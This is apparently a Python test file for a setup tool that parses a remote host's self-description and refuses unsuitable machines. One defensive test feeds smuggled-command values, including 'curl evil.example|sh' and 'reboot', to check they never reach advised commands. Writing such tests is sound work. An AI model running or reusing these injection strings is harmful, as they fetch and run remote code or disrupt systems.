"""What the other machine says of itself is read strictly, and judged before anything goes there."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dshpc_setup.adding import host, look
from dshpc_setup.adding.look import Found
from dshpc_setup.errors import DshpcError

_TOLD = {
    "system": "Linux", "arch": "x86_64", "host": "lab7", "uid": "1000", "python": "3.11", "refused": "",
    "manager": "apt-get", "free": "9000000", "folder": "absent", "end": "yes",
}  # fmt: skip
GOOD = Found(_TOLD)
HOST = host.read("ada@lab7", "dshpc-lab")


def test_what_a_login_prints_beside_it_is_no_answer() -> None:
    text = "Welcome!\nsystem Haiku\n" + "".join(
        f"dshpc-look: {key} {value}\n" for key, value in _TOLD.items()
    )
    text += "dshpc-look: card 0x10de\ndshpc-look: card junk\ndshpc-look: lacks setsid\n"
    text += "dshpc-look: system Haiku\n"
    found = look.parse(text)
    assert {key: found[key] for key in _TOLD} == _TOLD
    assert found.cards == {0x10DE}
    assert found.lacks == ("setsid",)
    assert found.free_mib == 8789
    assert found.words() == "x86_64, Python 3.11, no root, 9 GiB free"


@given(st.text(max_size=300))
def test_whatever_it_says_it_is_one_harmless_line(text: str) -> None:
    found = look.parse(f"dshpc-look: arch {text}\ndshpc-look: free {text}\n{text}")
    assert found.words().isprintable()


@pytest.mark.parametrize(
    ("told", "words"),
    [
        ({"system": "Darwin"}, "no Linux machine"),
        ({"folder": "other"}, "not of our making"),
        ({"free": "1000000"}, "too little space: 976 MiB"),
        ({"python": "", "refused": "python3 is 3.6"}, "no Python 3.10 or later"),
        ({"python": "", "manager": "", "uid": "0"}, "no Python 3.10 or later"),
    ],
)
def test_what_nothing_would_come_of(told: dict[str, str], words: str) -> None:
    with pytest.raises(DshpcError, match=words) as caught:
        look.refuse(Found(_TOLD | told), HOST)
    assert caught.value.steps or told.get("system")


@pytest.mark.parametrize("word", ["lacks tar; curl evil.example|sh #", "manager dnf; reboot #"])
def test_no_word_of_its_stands_in_a_command_that_we_advise(word: str) -> None:
    said = {**_TOLD, "python": "", "sudo": ""}
    lines = [f"dshpc-look: {word}", *(f"dshpc-look: {key} {value}" for key, value in said.items())]
    with pytest.raises(DshpcError) as caught:
        look.refuse(look.parse("\n".join(lines)), HOST)
    assert "no Python" in caught.value.brief
    assert ";" not in " ".join(caught.value.resolution)


def test_what_lacks_a_tool() -> None:
    with pytest.raises(DshpcError, match="has no tar gzip"):
        look.refuse(replace(GOOD, lacks=("tar", "gzip")), HOST)


@pytest.mark.parametrize(
    "told",
    [
        {},
        {"folder": "ours"},
        {"free": ""},
        {"python": "", "uid": "0"},  # its launcher installs one
        {"python": "", "sudo": "yes"},
    ],
)
def test_what_is_good(told: dict[str, str]) -> None:
    look.refuse(Found(_TOLD | told), HOST)


def test_shapes_of_what_stands_in_commands_of_ours() -> None:
    found = look.parse(
        "dshpc-look: node -h\ndshpc-look: engine x\ndshpc-look: node lab7\ndshpc-look: engine podman\n"
    )
    assert (found["node"], found["engine"]) == ("lab7", "podman")
